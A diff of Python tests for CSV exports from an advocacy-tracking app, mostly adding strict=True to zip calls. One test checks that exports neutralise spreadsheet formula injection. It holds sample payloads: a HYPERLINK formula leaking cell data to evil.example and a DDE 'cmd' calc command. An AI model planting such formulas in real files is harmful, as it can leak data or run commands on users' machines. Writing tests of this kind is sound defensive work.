@@ -59,7 +59,7 @@ def test_matrix_export(client, signed_in, demo):
     assert header[6:10] == ["1. Repudiate the election", "1. Repudiate the election: since",
                             "1. Repudiate the election: evidence", "1. Repudiate the election: source"]
     assert len(body) == 13
-    by_code = {row[1]: dict(zip(header, row)) for row in body}
+    by_code = {row[1]: dict(zip(header, row, strict=True)) for row in body}
     argentina = by_code["ARG"]
     assert (argentina["Stage"], argentina["Response"], argentina["Region"]) == ("Committed", "Acted", "Americas")
     assert argentina["3. ICC referral"] == "Acted" and argentina["3. ICC referral: since"] == "2018-09-26"
@@ -90,7 +90,7 @@ def test_outreach_export(client, signed_in, demo):
     header, *body = read_csv(response)
     assert header[:8] == ["Country", "ISO code", "Stage", "Priority", "Assigned to", "Coordinator", "Next follow-up",
                           "Response"]
-    by_code = {row[1]: dict(zip(header, row)) for row in body}
+    by_code = {row[1]: dict(zip(header, row, strict=True)) for row in body}
     assert len(by_code) == 13
     sweden = by_code["SWE"]
     assert (sweden["Stage"], sweden["Priority"], sweden["Assigned to"], sweden["Coordinator"]) == (
@@ -113,11 +113,11 @@ def test_exported_evidence_and_names_cannot_run_as_formulas(client, signed_in, m
                             evidence_url="-1+1"))
     db.session.commit()
     header, *body = read_csv(client.get(DEMO_URL + "/matrix.csv"))
-    spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP")))
+    spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP"), strict=True))
     assert spain_row["3. ICC referral: evidence"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Source")'
     assert spain_row["3. ICC referral: source"] == "'-1+1"
     header, *body = read_csv(client.get(DEMO_URL + "/outreach.csv"))
-    spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP")))
+    spain_row = dict(zip(header, next(row for row in body if row[1] == "ESP"), strict=True))
     assert spain_row["Assigned to"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     for row in body:
         assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
